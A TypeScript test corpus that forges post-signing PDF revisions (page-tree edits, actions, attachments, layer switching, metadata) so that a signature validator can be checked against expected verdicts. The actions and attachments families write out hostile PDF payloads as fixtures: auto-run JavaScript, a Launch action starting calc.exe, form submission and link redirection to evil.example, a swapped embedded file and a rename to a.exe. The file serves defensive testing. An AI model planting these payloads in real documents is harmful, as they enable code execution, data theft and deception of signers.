import { objectText } from '../../../kit/pdf/pdf-forging.ts';
import type { ObjectText } from '../../../kit/pdf/pdf-structures.ts';
import type { RawRevision } from '../../../kit/pdf/raw-revision.ts';
import type { CorpusFamily, CorpusFile, ExpectedCode } from '../corpus-file.ts';
import { at, later, stream, textOf, words, type DeedOptions } from '../deed.ts';

type Objects = Readonly<Record<number, ObjectText>>;

/** The signed deed with one object rewritten, and what that needs. */
const rewritten = (
  name: string,
  why: string,
  number: number,
  from: string | RegExp,
  to: string,
  more: Objects = {},
  of: DeedOptions = {},
): CorpusFile => failing(name, why, (pdf) => ({ objects: { [number]: replaced(pdf, number, from, to), ...more } }), of);

const failing = (
  name: string,
  why: string,
  revision: (pdf: Buffer) => RawRevision,
  of: DeedOptions = {},
  unreadable: readonly ExpectedCode[] = [],
): CorpusFile => ({
  name,
  // A tree that is none leaves it to each reader what to show.
  verdict: unreadable.length === 0 ? 'failed' : 'warned',
  codes: ['changed_after_signing', ...unreadable],
  why,
  make: (world) => world.revised(revision, {}, of),
});

const lawful = (
  name: string,
  why: string,
  revision: (pdf: Buffer) => RawRevision,
  level?: 1 | 2 | 3,
  codes: readonly ExpectedCode[] = [],
): CorpusFile => ({
  name,
  verdict: 'passed',
  codes,
  why,
  make: (world) => world.revised(revision, level === undefined ? {} : { certify: level }),
});

function replaced(pdf: Buffer, number: number, from: string | RegExp, to: string): string {
  const text = objectText(pdf, number);
  const result = text.replace(from, to);
  if (result === text) throw new Error(`nothing to change in object ${number}`);
  return result;
}

const toCatalog = (name: string, why: string, entries: string, more: Objects = {}): CorpusFile =>
  rewritten(name, why, at.catalog, '/Type /Catalog', `/Type /Catalog ${entries}`, more);
const toPage = (name: string, why: string, entries: string, more: Objects = {}): CorpusFile =>
  rewritten(name, why, at.page, '/Type /Page', `/Type /Page ${entries}`, more);

export const pageTree: CorpusFamily = {
  name: 'page-tree',
  source: 'ISO 32000-2, 7.7.3 (pages and what they inherit) and 12.8.2.2.2',
  files: [
    toPage('rotated', 'The page is turned upside down.', '/Rotate 180'),
    toPage('cropped', 'The page shows its upper half only.', '/CropBox [0 421 595 842]'),
    toPage('larger-units', 'A unit of the page is ten times as long.', '/UserUnit 10'),
    toPage('smaller-paper', 'The page has a box of its own, smaller than the inherited one.', '/MediaBox [0 0 595 600]'),
    toPage('trimmed', 'A trim box: printers cut there.', '/TrimBox [0 700 595 842]'),
    toPage('transition', 'The page goes by itself after no time at all.', '/Dur 0 /Trans <</S /Split>>'),
    toPage('other-resources', 'The page is given resources of its own.', '/Group <</S /Transparency /CS /DeviceRGB>>'),
    toPage('thumbnail', 'A thumbnail shows another page.', `/Thumb ${at.image} 0 R`),
    rewritten('inherits-rotation', 'All pages inherit another rotation.', at.pages, '/Type /Pages', '/Type /Pages /Rotate 90'),
    rewritten('inherits-crop', 'All pages inherit a crop box.', at.pages, '/Type /Pages', '/Type /Pages /CropBox [0 421 595 842]'),
    rewritten('inherits-smaller-paper', 'All pages inherit a smaller paper.', at.pages, '[0 0 595 842]', '[0 0 595 650]'),
    rewritten(
      'page-removed',
      'The second page is gone.',
      at.pages,
      `/Count 2 /Kids [${at.page} 0 R ${at.secondPage} 0 R]`,
      `/Count 1 /Kids [${at.page} 0 R]`,
    ),
    rewritten(
      'pages-exchanged',
      'The pages come in the other order.',
      at.pages,
      `[${at.page} 0 R ${at.secondPage} 0 R]`,
      `[${at.secondPage} 0 R ${at.page} 0 R]`,
    ),
    failing(
      'page-shown-twice',
      'The second page is the first one once more.',
      (pdf) => ({
        objects: { [at.pages]: replaced(pdf, at.pages, `${at.page} 0 R ${at.secondPage} 0 R`, `${at.page} 0 R ${at.page} 0 R`) },
      }),
      {},
      ['later_changes_unreadable', 'readers_may_differ'],
    ),
    rewritten('page-added', 'A third page follows.', at.pages, /\/Count 2 \/Kids \[(.*?)\]/, `/Count 3 /Kids [$1 ${later} 0 R]`, {
      [later]: `<</Type /Page /Parent ${at.pages} 0 R /Resources ${at.resources} 0 R /Contents ${later + 1} 0 R>>`,
      [later + 1]: words('One more clause'),
    }),
    rewritten(
      'node-in-between',
      'The first page hangs under a new node, which hands down a rotation.',
      at.pages,
      `[${at.page} 0 R`,
      `[${later} 0 R`,
      {
        [later]: `<</Type /Pages /Parent ${at.pages} 0 R /Count 1 /Kids [${at.page} 0 R] /Rotate 180>>`,
      },
    ),
    rewritten('count-hides-a-page', 'The list of pages says that there is one.', at.pages, '/Count 2', '/Count 1'),
    rewritten(
      'parent-is-another',
      'The page names another parent, which hands down a crop box.',
      at.page,
      `/Parent ${at.pages}`,
      `/Parent ${later}`,
      {
        [later]: `<</Type /Pages /Count 1 /Kids [${at.page} 0 R] /MediaBox [0 0 595 600]>>`,
      },
    ),
    lawful(
      'same-page-again',
      'The page is written once more as it was.',
      (pdf) => ({ objects: { [at.page]: objectText(pdf, at.page), [at.pages]: objectText(pdf, at.pages) } }),
      1,
    ),
    lawful('tab-order', 'The order of the tab key (ISO 32000-2, table 31) is nothing that one sees.', (pdf) => ({
      objects: { [at.page]: replaced(pdf, at.page, '/Type /Page', '/Type /Page /Tabs /S') },
    })),
    lawful('last-modified', 'Private data of a program and the time of the last change.', (pdf) => ({
      objects: { [at.page]: replaced(pdf, at.page, '/Type /Page', '/Type /Page /LastModified (D:20260601120000Z)') },
    })),
    lawful('piece-info', 'A program keeps its private data up to date.', () => ({
      objects: { [at.pieceInfo]: '<</Maker <</LastModified (D:20260601120000Z) /Private (y)>>>>' },
    })),
  ],
};

const script = '<</S /JavaScript /JS (app.alert\\(1\\))>>';

export const actions: CorpusFamily = {
  name: 'actions',
  source: 'ISO 32000-2, 12.6 (actions) and 12.8.2.2.2; certified documents: Mladenov et al., IEEE S&P 2021, section 4.3',
  files: [
    toCatalog('script-on-opening', 'A script runs when the document is opened.', `/OpenAction ${script}`),
    toCatalog('page-on-opening', 'The document opens at another place.', `/OpenAction [${at.secondPage} 0 R /Fit]`),
    toCatalog('script-before-saving', 'A script runs before the document is saved.', `/AA <</WS ${script}>>`),
    toCatalog('base-for-links', 'All links lead to another base.', '/URI <</Base (http://evil.example/)>>'),
    toCatalog(
      'reader-preferences',
      'Readers are told to hide their tools and to print other pages.',
      '/ViewerPreferences <</HideToolbar true /PrintPageRange [2 2]>>',
    ),
    toCatalog('other-page-mode', 'The document opens with its attachments in sight.', '/PageMode /UseAttachments'),
    toCatalog('page-labels', 'The pages have other numbers.', '/PageLabels <</Nums [0 <</S /D /St 9>>]>>'),
    toCatalog('outline', 'An outline is added whose titles say what nobody signed.', `/Outlines ${later} 0 R`, {
      [later]: `<</Type /Outlines /Count 1 /First ${later + 1} 0 R /Last ${later + 1} 0 R>>`,
      [later + 1]: `<</Title (Price: EUR 9,000) /Parent ${later} 0 R>>`,
    }),
    toCatalog('threads', 'Articles are added.', '/Threads []'),
    toCatalog(
      'developer-collection',
      'The document turns into a cover of its attachments (ISO 32000-2, 12.3.5).',
      '/Collection <</Type /Collection /View /D>>',
    ),
    toPage('script-on-page', 'A script runs when the page is shown.', `/AA <</O ${script}>>`),
    rewritten('named-script', 'A script by name runs on opening.', at.names, '<<', `<</JavaScript <</Names [(a) ${later} 0 R]>> `, {
      [later]: script,
    }),
    rewritten('named-destination', 'A named place lies on another page.', at.names, `${at.page} 0 R`, `${at.secondPage} 0 R`),
    rewritten(
      'named-template',
      'A page that scripts may add waits among the names.',
      at.names,
      '<<',
      `<</Templates <</Names [(t) ${at.secondPage} 0 R]>> `,
    ),
    rewritten('link-leads-elsewhere', 'A link leads to another address.', at.link, 'https://example.org', 'https://evil.example'),
    rewritten('link-starts-a-program', 'A link starts a program.', at.link, /\/A <<.*?>>/, '/A <</S /Launch /F (calc.exe)>>'),
    rewritten('link-submits', 'A link sends the form away.', at.link, /\/A <<.*?>>/, '/A <</S /SubmitForm /F (http://evil.example)>>'),
    rewritten('link-hides', 'A link hides a field.', at.link, /\/A <<.*?>>/, '/A <</S /Hide /T (Amount)>>'),
    rewritten(
      'link-sets-layers',
      'A link switches a layer off.',
      at.link,
      /\/A <<.*?>>/,
      `/A <</S /SetOCGState /State [/OFF ${at.layer} 0 R]>>`,
    ),
    rewritten('field-gets-a-script', 'A field calculates itself.', at.amount, '/FT /Tx', `/FT /Tx /AA <</C ${script}>>`),
    failing(
      'script-changed-in-place',
      'A script that was there when it was signed is another one.',
      () => ({ objects: { [later - 400]: script.replace('1', '2') } }),
      {
        objects: {
          [at.catalog]: textOf(at.catalog).replace('/Type', `/OpenAction ${later - 400} 0 R /Type`),
          [later - 400]: script,
        },
      },
    ),
  ],
};

const attached = {
  [later]: `<</Type /Filespec /F (a.txt) /UF (a.txt) /EF <</F ${later + 1} 0 R>>>>`,
  [later + 1]: stream('/Type /EmbeddedFile', 'evil'),
};

export const attachments: CorpusFamily = {
  name: 'attachments',
  source: 'ISO 32000-2, 7.11.4 (embedded files), 14.13 (associated files) and 12.8.2.2.2',
  files: [
    rewritten('attached-by-name', 'A file is attached.', at.names, '<<', `<</EmbeddedFiles <</Names [(a.txt) ${later} 0 R]>> `, attached),
    toCatalog('associated-with-document', 'A file is associated with the document.', `/AF [${later} 0 R]`, attached),
    toPage('associated-with-page', 'A file is associated with the page.', `/AF [${later} 0 R]`, attached),
    rewritten('attached-by-annotation', 'A file hangs on an annotation.', at.annotations, '[', `[${later + 2} 0 R `, {
      ...attached,
      [later + 2]: `<</Type /Annot /Subtype /FileAttachment /Rect [560 20 580 40] /FS ${later} 0 R>>`,
    }),
    failing(
      'attachment-replaced',
      'The attached file is another one under the same name.',
      () => ({ objects: { 61: stream('/Type /EmbeddedFile', 'evil') } }),
      {
        objects: {
          [at.names]: '<</EmbeddedFiles <</Names [(a.txt) 60 0 R]>>>>',
          60: '<</Type /Filespec /F (a.txt) /EF <</F 61 0 R>>>>',
          61: stream('/Type /EmbeddedFile', 'good'),
        },
      },
    ),
    failing(
      'attachment-renamed',
      'The attached file has another name.',
      () => ({ objects: { 60: '<</Type /Filespec /F (a.exe) /EF <</F 61 0 R>>>>' } }),
      {
        objects: {
          [at.names]: '<</EmbeddedFiles <</Names [(a.txt) 60 0 R]>>>>',
          60: '<</Type /Filespec /F (a.txt) /EF <</F 61 0 R>>>>',
          61: stream('/Type /EmbeddedFile', 'good'),
        },
      },
    ),
    failing('also-attached-by-name', 'A file is attached beside an entry that was there.', (pdf) => ({
      objects: { [at.names]: replaced(pdf, at.names, '<<', `<</EmbeddedFiles <</Names [(a.txt) ${later} 0 R]>> `), ...attached },
    })),
  ],
};

export const layers: CorpusFamily = {
  name: 'layers',
  source: 'ISO 32000-2, 8.11 (optional content) and 12.8.2.2.2; shadow attack "hide": Mainka et al., NDSS 2021, section 4.1',
  files: [
    rewritten(
      'switched-off',
      'A layer with signed words is off.',
      at.layers,
      `/ON [${at.layer} 0 R] /OFF []`,
      `/ON [] /OFF [${at.layer} 0 R]`,
    ),
    rewritten('all-off', 'All layers begin switched off.', at.layers, '/D <<', '/D <</BaseState /OFF '),
    rewritten(
      'switched-off-for-printing',
      'A layer is off when the document is printed.',
      at.layers,
      '/D <<',
      `/D <</AS [<</Event /Print /OCGs [${at.layer} 0 R] /Category [/Print]>>] `,
    ),
    rewritten(
      'usage-of-layer',
      'The layer itself says that it is off when printed.',
      at.layer,
      '/Type /OCG',
      '/Type /OCG /Usage <</Print <</PrintState /OFF>> /View <</ViewState /OFF>>>>',
    ),
    rewritten('intent-of-layer', 'The layer is for designers only.', at.layer, '/Type /OCG', '/Type /OCG /Intent /Design'),
    rewritten('layer-no-more', 'The object of the layer is none any more.', at.layer, '/Type /OCG', '/Type /OCMD'),
    rewritten('layer-renamed', 'The layer has another name.', at.layer, 'Witnesses', 'Void'),
    rewritten(
      'other-layer-for-page',
      'The page takes a new layer, which is off, for its words.',
      at.resources,
      `/Layer ${at.layer} 0 R`,
      `/Layer ${later} 0 R`,
      { [later]: '<</Type /OCG /Name (x)>>' },
    ),
    rewritten('without-layers', 'The catalog knows of no layers any more.', at.catalog, /\/OCProperties \d+ 0 R/, ''),
    rewritten(
      'second-configuration',
      'An alternate configuration, in which the layer is off, is added.',
      at.layers,
      '/D <<',
      `/Configs [<</OFF [${at.layer} 0 R]>>] /D <<`,
    ),
  ],
};

export const metadata: CorpusFamily = {
  name: 'metadata',
  source: 'ISO 32000-2, 14.3 and 12.8.2.2.2: neither Info nor metadata is drawn',
  files: [
    lawful('info', 'The title in Info is another.', () => ({ objects: { [at.info]: '<</Title (The deed) /Producer (x)>>' } })),
    lawful('xmp', 'The metadata is written anew.', () => ({
      objects: { [at.metadata]: stream('/Type /Metadata /Subtype /XML', '<x:xmpmeta xmlns:x="adobe:ns:meta/"> </x:xmpmeta>') },
    })),
    lawful('extensions', 'The catalog names an extension that the update needs.', () => ({
      objects: { [at.extensions]: '<</ADBE <</BaseVersion /1.7 /ExtensionLevel 8>>>>' },
    })),
    lawful('version', 'The catalog names a later version of the format.', (pdf) => ({
      objects: { [at.catalog]: replaced(pdf, at.catalog, '/Type /Catalog', '/Type /Catalog /Version /1.7') },
    })),
    failing(
      'info-of-another-catalog',
      'With Info a new catalog comes along.',
      () => ({
        objects: {
          [later]: `<</Type /Catalog /Pages ${later + 1} 0 R>>`,
          [later + 1]: `<</Type /Pages /Count 0 /Kids []>>`,
          [at.info]: '<</Title (x)>>',
        },
        root: later,
      }),
      {},
      ['page_not_found', 'damaged', 'damaged_and_signed', 'later_changes_unreadable'],
    ),
  ],
};
